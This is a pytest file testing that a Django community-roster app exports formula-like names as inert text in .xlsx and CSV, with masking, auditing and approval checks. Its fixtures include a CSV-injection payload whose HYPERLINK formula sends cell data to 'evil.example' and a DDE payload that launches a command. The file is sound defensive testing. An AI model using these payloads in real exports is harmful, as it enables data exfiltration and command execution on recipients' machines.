"""Exports that attack: a name imported as a formula comes out of every export as text, never as a live
formula (OWASP's advice on CSV injection), in .xlsx and in CSV alike."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from frontline.areas.models import Building
from frontline.core.export import csv_safe
from frontline.core.models import AuditLog
from frontline.core.validators import id_check_char
from frontline.grid.roster import roster_apply
from frontline.people.models import Person
from tests.exports import full_export

EVIL = '=HYPERLINK("http://evil.example/?d="&F5,"点击查看")'


def make_id(seq: int) -> str:
    first17 = f"11010519800101{seq:03d}"
    return first17 + id_check_char(first17)


@pytest.fixture
def evil(city, tmp_path):
    """A household imported with a formula for a name, `+`, `-` and `@` for its unit and room."""
    building = Building.objects.filter(area=city.grid).order_by("name").first()
    path = tmp_path / "evil.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["姓名", "身份证号", "楼栋", "单元", "房号", "与户主关系"],
                                 [EVIL, make_id(91), building.name, "+1", "-901", "户主"],
                                 ["@SUM(1+1)*cmd|' /C calc'!A0", make_id(92), building.name, "+1", "-901", "配偶"]])
    roster_apply(actor=city.users["secretary"], area=city.grid, path=path, filename="evil.csv")
    assert Person.objects.filter(name=EVIL).exists()
    tab = Person.objects.get(id_number=make_id(92))
    tab.name = "\t=1+1"  # however it got there (an older import, the admin): still exported as text
    tab.save(update_fields=["name"])
    return [EVIL, "\t=1+1"]


def test_xlsx_export_writes_formula_like_text_as_text(city, client_for, evil):
    response = client_for("secretary").get(f"/areas/{city.grid.pk}/roster.xlsx")
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active  # not read-only: every cell's type as Excel sees it
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in [*evil, "+1", "-901"]:
        cell = cells[text]
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert not [cell for cell in cells.values() if cell.data_type == "f"]


def test_csv_export_prefixes_formula_like_text_and_is_masked_marked_and_audited(city, client_for, evil):
    response = client_for("secretary").get(f"/areas/{city.grid.pk}/roster.xlsx?format=csv")
    assert response["Content-Disposition"].endswith('.csv"') and response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel opens it as UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert "secretary" in rows[1][0] and "请勿转发" in rows[1][0] and "已脱敏" in rows[2][0]
    header = rows.index(next(r for r in rows if r and r[0] == "网格编码"))
    data = rows[header + 1:]
    cells = {cell for row in data for cell in row}
    for text in [*evil, "+1", "-901"]:
        assert "'" + text in cells and text not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not cells & set(Person.objects.exclude(id_number=None).values_list("id_number", flat=True))  # masked
    assert f"{len(data)} rows" in AuditLog.objects.get(action="export", actor_name="secretary").note


def test_csv_export_of_full_identifiers_needs_the_right_to_reveal_and_an_approval(city, client_for):
    assert client_for("volunteer").get(f"/areas/{city.grid.pk}/roster.xlsx?format=csv&full=1").status_code == 403
    response = full_export(client_for, city.grid, requester="secretary", approver="street", fmt="csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    ids = set(Person.objects.exclude(id_number=None).values_list("id_number", flat=True))
    assert response["Content-Type"].startswith("text/csv") and any(cell in ids for row in rows for cell in row)
    assert "full identifiers" in AuditLog.objects.get(action="export", actor_name="secretary").note


@pytest.mark.parametrize("value, safe", [("=1+1", "'=1+1"), ("+86", "'+86"), ("-", "'-"), ("@x", "'@x"),
                                         ("\tx", "'\tx"), ("\rx", "'\rx"), ("张三", "张三"), ("", ""), (-5, -5), (None, None)])
def test_csv_safe(value, safe):
    assert csv_safe(value) == safe
